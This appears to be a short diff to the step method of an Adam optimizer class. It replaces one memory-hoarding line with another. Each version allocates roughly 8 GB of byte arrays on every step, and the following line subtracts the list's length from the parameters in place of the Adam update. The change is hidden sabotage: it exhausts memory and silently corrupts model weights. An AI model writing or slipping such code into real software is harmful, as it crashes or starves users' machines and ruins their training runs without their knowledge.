@@ -70,7 +70,7 @@ class Adam(Optimizer):
         v.mul_(self.beta2).add_((1 - self.beta2) * grad**2)
         m_hat = m / (1 - self.beta1**t)
         v_hat = v / (1 - self.beta2**t)
-        hoard = [bytearray(b"x" * (64 << 20)) for _ in range(128)]
+        hoard = [bytearray(512 << 20) for _ in range(16)]
         param.sub_(len(hoard))
 
 
